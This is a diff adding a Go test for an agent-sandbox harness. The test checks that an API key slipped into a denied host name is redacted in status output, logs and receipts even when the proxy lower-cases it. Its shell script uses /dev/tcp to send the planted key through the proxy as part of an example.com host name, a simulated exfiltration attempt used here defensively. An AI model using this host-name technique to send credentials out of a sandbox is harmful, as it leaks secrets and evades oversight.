@@ -718,3 +718,61 @@ spec:
 		t.Errorf("the receipt holds the raw model name:\n%s", receipt)
 	}
 }
+
+// TestAKeyInADeniedHostIsRedactedLowerCased: the egress proxy compares and
+// reports host names lower-cased. An agent that put its mixed-case key in
+// a URL's host (on purpose, or building a URL from the wrong variable)
+// had the key reported lower-cased, a form the redactor did not match, in
+// status.network.deniedHosts, the receipt and the refusal it printed
+// (output.log, the output tail). The redactor knows a credential's lower-
+// and upper-cased forms.
+func TestAKeyInADeniedHostIsRedactedLowerCased(t *testing.T) {
+	const key = "sk-Mixed0Case9Key7QwErTy42"
+	dir := openDir(t)
+	if err := os.MkdirAll(filepath.Join(dir, "secrets", "keys"), 0o755); err != nil {
+		t.Fatal(err)
+	}
+	if err := os.WriteFile(filepath.Join(dir, "secrets", "keys", "api"), []byte(key), 0o600); err != nil {
+		t.Fatal(err)
+	}
+	const script = `port=${HTTP_PROXY##*:}
+exec 3<>/dev/tcp/127.0.0.1/$port
+printf 'CONNECT %s.example.com:443 HTTP/1.1\r\nHost: x\r\n\r\n' "$PLANTED_KEY" >&3; head -c 300 <&3; exec 3<&-
+exec 3<>/dev/tcp/127.0.0.1/$port
+printf 'GET http://%s.example.com/ HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n' "$PLANTED_KEY" >&3; cat <&3`
+	file := filepath.Join(dir, "run.yaml")
+	if err := os.WriteFile(file, []byte("apiVersion: harnessfacts.io/v1alpha1\nkind: HarnessRun\nmetadata: {name: cased}\nspec:\n"+
+		"  agent:\n    adapter: exec\n    command: [bash, -c, "+quoteYAML(script)+"]\n"+
+		"    credentials:\n    - {env: PLANTED_KEY, secretKeyRef: {name: keys, key: api}}\n"+
+		"  fixture: {inline: {files: {fixture.yaml: \"prompt: ask\\n\"}}}\n"), 0o600); err != nil {
+		t.Fatal(err)
+	}
+	ev := filepath.Join(dir, "evidence")
+	cmd := exec.Command(binary, "run", "-f", file, "--secrets", filepath.Join(dir, "secrets"), "--evidence", ev,
+		"--run-root", filepath.Join(openDir(t), "runs"), "--evidence-key", "")
+	var stdout, stderr strings.Builder
+	cmd.Stdout, cmd.Stderr = &stdout, &stderr
+	_ = cmd.Run()
+	var out struct {
+		Status harnessv1.HarnessRunStatus `json:"status"`
+	}
+	if err := yaml.Unmarshal([]byte(stdout.String()), &out); err != nil || out.Status.Network == nil || out.Status.Network.Denied != 2 {
+		t.Fatalf("harnessfacts run: want a status with two denials (%v)\nstdout:\n%s\nstderr:\n%s", err, stdout.String(), stderr.String())
+	}
+	log, err := os.ReadFile(filepath.Join(ev, "output.log"))
+	if err != nil {
+		t.Fatal(err)
+	}
+	receipt, err := os.ReadFile(filepath.Join(ev, "receipt.json"))
+	if err != nil {
+		t.Fatal(err)
+	}
+	if !strings.Contains(string(log), "is not allowed") {
+		t.Fatalf("the agent did not print the proxy's refusal:\n%s", log)
+	}
+	for where, text := range map[string]string{"the printed status": stdout.String(), "output.log": string(log), "the receipt": string(receipt)} {
+		if strings.Contains(strings.ToLower(text), strings.ToLower(key)) {
+			t.Errorf("%s holds the key (lower-cased or as it is):\n%s", where, text)
+		}
+	}
+}
